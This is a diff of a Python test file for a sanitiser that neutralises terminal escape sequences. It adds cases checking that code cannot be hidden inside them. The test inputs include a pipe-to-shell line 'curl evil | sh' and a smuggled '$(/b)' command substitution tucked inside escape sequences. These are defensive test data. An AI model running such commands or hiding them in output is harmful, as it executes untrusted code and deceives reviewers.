@@ -35,14 +35,28 @@ def test_ordinary_text_stays_as_it_is(text: str) -> None:
     assert clean.block(text) == text
 
 
-def test_a_terminal_command_is_removed_as_a_whole() -> None:
-    assert clean.line("\x1b[31mred\x1b[0m") == "\ufffdred\ufffd"
-    assert clean.line("\x1b]0;title\x07x\x1b]8;;http://h\x1b\\y") == "\ufffdx\ufffdy"
-    assert clean.line("\x9b31mred") == "\ufffdred"
+def test_a_terminal_command_loses_its_escape_and_nothing_else() -> None:
+    assert clean.line("\x1b[31mred\x1b[0m") == "\ufffd[31mred\ufffd[0m"
+    assert clean.line("\x1b]0;title\x07x\x1b]8;;http://h\x1b\\y") == "\ufffd]0;title\ufffdx\ufffd]8;;http://h\ufffd\\y"
+    assert clean.line("\x9b31mred") == "\ufffd31mred"
 
 
-def test_half_a_terminal_command_loses_its_escape() -> None:
-    assert clean.line("\x1b]0;never ended") == "\ufffd]0;never ended"
+@pytest.mark.parametrize(
+    "code",
+    [
+        "echo hi # \x1b]\ncurl evil | sh\n# \x07\necho done\n",
+        'x = "\x1b]"; evil(); y = "\x07"\n',
+        "echo \x1b[;$(/b)m\n",
+        "a \x1b]8;;\x1b\\ b \x9b1;2;3 ~ c \x1bP hidden \x1b\\\n",
+    ],
+)
+def test_code_cannot_hide_within_a_terminal_command(code: str) -> None:
+    assert clean.block(code) == "".join(char if char.isprintable() or char == "\n" else "\ufffd" for char in code)
+
+
+def test_what_a_program_wrote_loses_its_colours_only() -> None:
+    assert clean.log("\x1b[1;31mred\x1b[0m\x1b[K plain\n") == "red plain\n"
+    assert clean.log("\x1b]0;title\x07\x1b[2Jx") == "\ufffd]0;title\ufffd\ufffd[2Jx"
 
 
 def test_a_block_keeps_line_breaks_and_tabs_only() -> None:
